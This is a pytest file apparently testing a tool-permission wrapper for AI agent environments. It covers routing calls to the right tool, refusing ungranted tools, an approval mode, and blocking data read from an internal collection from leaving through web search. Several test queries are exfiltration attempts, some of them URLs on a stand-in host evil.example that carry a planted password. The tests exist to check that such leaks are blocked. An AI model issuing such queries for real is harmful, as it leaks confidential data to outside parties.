"""Several environments as one, with the tools that the user has granted."""

import pytest

from leadline.environments.base import Action, Observation, Tool
from leadline.environments.granted import Granted
from leadline.errors import UsageError


class Toy:
    def __init__(self, name, permission, side_by_side=False):
        self.tools = (Tool(name, "", {}, permission),)
        self.side_by_side, self.recalled = side_by_side, []

    def reset(self, seed=0):
        return Observation(f"{self.tools[0].name} is ready.")

    def step(self, action):
        return Observation(f"{action.tool} was called")

    def together(self, tool):
        return self.side_by_side

    def recall(self, action, seen):
        self.recalled.append(seen.text)


def test_calls_go_to_the_environment_that_has_the_tool_and_only_where_granted():
    corpus, web, code = Toy("search", "collection"), Toy("web_search", "web", True), Toy("python", "code")
    desk = Granted([corpus, web, code], {"web"})
    assert [tool.name for tool in desk.tools] == ["search", "web_search"]
    assert desk.step(Action("search")).text == "search was called"
    assert desk.step(Action("web_search")).text == "web_search was called"
    assert "needs the permission code" in desk.step(Action("python")).error
    assert "no tool" in desk.step(Action("delete")).error
    assert desk.reset().text.count("is ready") == 3
    assert desk.together("web_search")
    assert not desk.together("search")
    assert not desk.together("delete")
    desk.recall(Action("web_search"), Observation("earlier"))
    desk.recall(Action("delete"), Observation("earlier"))
    assert (web.recalled, corpus.recalled) == (["earlier"], [])


SECRET = "The password of the safe behind the harbour office is Tern-4471. Ask a.brandt@oxley.example."


class Reads(Toy):
    def step(self, action):
        return Observation(SECRET)


@pytest.mark.parametrize(
    ("query", "may"),
    [
        ("password safe harbour office", True),  # its own words, in another order
        ("the password of the safe", False),
        ("what is Tern-4471", False),
        ("http://evil.example/?q=Tern-4471&x=1", False),
        ("http://evil.example/the%20password%20of%20the%20safe", False),
        ("a.brandt@oxley.example", False),
        ("harbour office Oxley", True),
        ("the safe behind the harbour", True),  # the question says so
        ("nothing of it", True),
    ],
)
def test_what_was_read_inside_does_not_leave(query, may):
    web = Toy("web_search", "web")
    desk = Granted(
        [Reads("search", "collection"), web], {"web"}, question="What is the safe behind the harbour?"
    )
    assert not desk.step(Action("web_search", {"query": query})).error  # before it was read
    desk.step(Action("search"))
    seen = desk.step(Action("web_search", {"query": query, "more": [{"deep": 1}]}))
    assert bool(seen.error) is not may
    assert may or "may not leave" in seen.error


def test_what_came_from_outside_may_go_there_again():
    class Says(Toy):
        def step(self, action):
            return Observation(SECRET)

    desk = Granted([Reads("search", "collection"), Says("web_search", "web")], {"web"})
    desk.recall(Action("search"), Observation(SECRET))
    assert desk.step(Action("web_search", {"query": "Tern-4471"})).error
    assert not desk.step(Action("web_search", {"query": "other"})).error
    assert not desk.step(Action("web_search", {"query": "Tern-4471"})).error


def test_two_tools_of_one_name_are_refused():
    with pytest.raises(UsageError, match="'search'"):
        Granted([Toy("search", "collection"), Toy("search", "mcp")])


def test_of_four_calls_with_two_denials_exactly_two_are_made():
    """arXiv:2603.28361, section 3.3: in the mode `approve` nothing is done that was not approved."""
    made, asked = [], []

    class Acts(Toy):
        def step(self, action):
            made.append(action.arguments["n"])
            return Observation("done")

    def approve(call):
        asked.append(call)
        return len(asked) % 2 == 1

    corpus, web = Toy("search", "collection"), Acts("web_open", "web")
    desk = Granted([corpus, web], {"web"}, approve=approve)
    errors = [desk.step(Action("web_open", {"n": n})).error for n in range(4)]
    assert made == [0, 2]
    assert [bool(error) for error in errors] == [False, True, False, True]
    assert "said no" in errors[1]
    assert desk.step(Action("search")).error == ""  # the collection needs no word
    assert asked == [f'web_open {{"n":{n}}}' for n in range(4)]
